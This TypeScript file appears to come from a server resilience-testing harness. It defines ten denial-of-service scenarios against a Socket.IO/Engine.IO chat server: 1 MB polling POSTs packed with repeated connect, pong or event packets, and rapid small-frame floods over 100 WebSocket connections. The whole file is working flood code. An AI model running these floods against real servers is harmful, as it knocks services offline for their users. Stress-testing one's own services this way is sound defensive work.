/** Requests and messages of a legal size that contain very many packets. */
import type { Attack } from '../attack.ts';
import type { Target } from '../target.ts';

const SEPARATOR = '\u001e';
const PAYLOAD_BYTES = 1_000_000;
const REPEATED = 349_332;
const SMALL_EVENTS = 131_000;
/** Packets that the server accepts in one request. */
const PAYLOAD_PACKETS_MAX = 500;
const MEMBERS = 20;

function fill(packet: string, countMax: number): string {
  const count = Math.min(countMax, Math.floor(PAYLOAD_BYTES / (packet.length + 1)));
  return Array.from({ length: count }, () => packet).join(SEPARATOR);
}

/** One large payload on each of several sessions, repeatedly. */
function flood(packet: string, { isMember }: { readonly isMember: boolean }) {
  const body = fill(packet, REPEATED);
  return (target: Target): Promise<void> =>
    target.repeat((round) =>
      target.each(4, async (index) => {
        const attacker = isMember ? target.attacker(round + index) : undefined;
        const path = await target.openPolling(attacker);
        if (path === undefined) return target.wait(100);
        await target.request({ method: 'POST', path, body });
      }),
    );
}

async function floodWebSocket(target: Target, path: string, frame: string): Promise<void> {
  await target.each(100, async (index) => {
    await target.repeat(async () => {
      const attacker = target.attacker(index);
      const socket = path.startsWith('/socket.io/')
        ? await target.openSocketIo(attacker)
        : await target.openWebSocket(path, { attacker });
      if (socket === undefined) return target.wait(200);
      for (let sent = 0; sent < SMALL_EVENTS / 100 && !target.isOver; sent += 1) {
        await target.send(socket, frame);
        if (sent % 100 === 99) await target.wait(1);
      }
      await target.wait(50);
      socket.terminate();
    });
  });
}

/** Payloads within the limit of packets, one after the other on each session. */
function fillPayloads(packet: string) {
  const body = fill(packet, PAYLOAD_PACKETS_MAX);
  return (target: Target): Promise<void> =>
    target.each(MEMBERS, async (index) => {
      await target.repeat(async () => {
        const path = await target.openPolling(target.attacker(index));
        if (path === undefined) return target.wait(100);
        let status = 200;
        while (!target.isOver && (status === 200 || status === 429)) {
          void target.request({ path });
          ({ status } = await target.request({ method: 'POST', path, body }));
          if (status === 429) await target.wait(20);
        }
      });
    });
}

const THREAT = 'Many packets in one payload';

export const PAYLOAD_ATTACKS: readonly Attack[] = [
  {
    name: 'polling-connects',
    about: 'One POST of 1 MB with `40` repeated, without an account',
    threat: THREAT,
    run: flood('40', { isMember: false }),
  },
  {
    name: 'polling-namespaces',
    about: 'One POST of 1 MB with `40/x,` repeated, without an account',
    threat: THREAT,
    run: flood('40/x,', { isMember: false }),
  },
  {
    name: 'polling-empty-packets',
    about: 'One POST of 1 MB of separators',
    threat: THREAT,
    run: flood('', { isMember: false }),
  },
  {
    name: 'polling-heartbeats',
    about: 'One POST of 1 MB of pongs',
    threat: THREAT,
    run: flood('3', { isMember: false }),
  },
  {
    name: 'polling-events',
    about: 'POSTs of 131,000 small events from members',
    threat: THREAT,
    run: flood('42["x"]', { isMember: true }),
  },
  {
    name: 'polling-acknowledged-events',
    about: 'POSTs of small events that each request an acknowledgement',
    threat: THREAT,
    run: flood('421["room:list"]', { isMember: true }),
  },
  {
    name: 'polling-full-payloads',
    about: 'POSTs of as many small events as a payload may have, one after the other, from members',
    threat: THREAT,
    run: fillPayloads('421["room:list"]'),
  },
  {
    name: 'small-events-websocket',
    about: 'Small Socket.IO events over 100 connections as fast as possible',
    threat: THREAT,
    run: (target) => floodWebSocket(target, '/socket.io/', '42["typing:start",{}]'),
  },
  {
    name: 'small-frames-native',
    about: 'Small frames at `/ws` over 100 connections as fast as possible',
    threat: THREAT,
    run: (target) => floodWebSocket(target, '/ws', '{"type":"ping","payload":{}}'),
  },
  {
    name: 'small-frames-channels',
    about: 'Small frames at `/ws/chat` over 100 connections as fast as possible',
    threat: THREAT,
    run: (target) => floodWebSocket(target, '/ws/chat', '{"type":"x"}'),
  },
];
